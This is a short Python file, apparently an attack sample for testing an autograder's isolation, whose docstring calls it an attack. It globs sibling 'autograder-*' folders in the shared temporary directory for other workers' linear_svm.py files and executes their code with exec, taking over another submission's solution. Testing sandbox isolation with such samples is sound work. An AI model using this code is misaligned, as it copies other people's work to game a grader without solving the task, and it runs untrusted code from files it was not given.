"""Attack: Files that other workers left in the temporary folder are read."""

from pathlib import Path

own = Path(__file__).parent
for path in own.parents[1].glob("autograder-*/code/linear_svm.py"):
    if path.parent != own:
        exec(path.read_text(), globals())
